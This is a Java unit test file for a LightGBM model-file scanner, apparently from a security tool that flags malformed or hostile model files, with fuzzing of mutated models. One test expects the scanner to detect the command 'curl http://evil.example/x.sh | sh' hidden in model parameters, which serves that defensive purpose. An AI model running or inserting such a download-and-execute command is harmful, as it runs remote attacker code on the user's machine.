package io.modelvet.formats.lightgbm;

import static io.modelvet.testutil.FindingAssert.only;
import static org.assertj.core.api.Assertions.assertThat;

import io.modelvet.report.FileResult;
import io.modelvet.report.Severity;
import io.modelvet.report.Verdict;
import io.modelvet.testutil.FindingAssert;
import io.modelvet.testutil.HostileScan;
import io.modelvet.testutil.Mutations;
import io.modelvet.testutil.Scans;
import java.nio.file.Path;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Test;

class LightgbmScannerTest {
  private static final Path DIR = Path.of("src/test/resources/fixtures/formats2/lightgbm");

  @Test
  void benignModelIsCleanAndRecognised() {
    FileResult r = Scans.file(DIR.resolve("benign.txt"));
    assertThat(r.format()).isEqualTo("lightgbm");
    assertThat(r.verdict()).as(r.findings().toString()).isEqualTo(Verdict.CLEAN);
  }

  @Test
  void childOutsideTheTreeIsMedium() {
    assertThat(only(Scans.file(DIR.resolve("bad_child.txt")), "lightgbm.malformed-tree", Severity.MEDIUM).evidence()).isEqualTo("tree 0 node 0 child=7");
  }

  @Test
  void splitOnMissingFeatureIsMedium() {
    assertThat(only(Scans.file(DIR.resolve("bad_feature.txt")), "lightgbm.malformed-tree", Severity.MEDIUM).evidence()).isEqualTo("tree 0 node 0 split_feature=9");
  }

  @Test
  void unknownObjectiveIsLow() {
    assertThat(only(Scans.file(DIR.resolve("unknown_objective.txt")), "lightgbm.unknown-objective", Severity.LOW).evidence()).isEqualTo("objective=evil_objective");
  }

  @Test
  void shellCommandInParametersIsMedium() {
    assertThat(only(Scans.file(DIR.resolve("payload_param.txt")), "payload.shell-command", Severity.MEDIUM).evidence()).contains("curl http://evil.example/x.sh | sh");
  }

  @Test
  void truncatedModelIsLow() {
    byte[] b = FindingAssert.fixture("lightgbm/benign.txt");
    FileResult r = Scans.bytes("cut.txt", java.util.Arrays.copyOf(b, 700));
    assertThat(r.format()).isEqualTo("lightgbm");
    only(r, "lightgbm.malformed-model", Severity.LOW);
  }

  @Property(tries = 200)
  void mutatedModelsNeverEscape(@ForAll("models") byte[] file) {
    HostileScan.check("m.txt", file);
  }

  @Provide
  Arbitrary<byte[]> models() {
    return Mutations.of(FindingAssert.fixture("lightgbm/benign.txt"), 16, Arbitraries.of((byte) '-', (byte) '=', (byte) '\n', (byte) ' ', (byte) '9', (byte) 0, (byte) 'x'));
  }
}
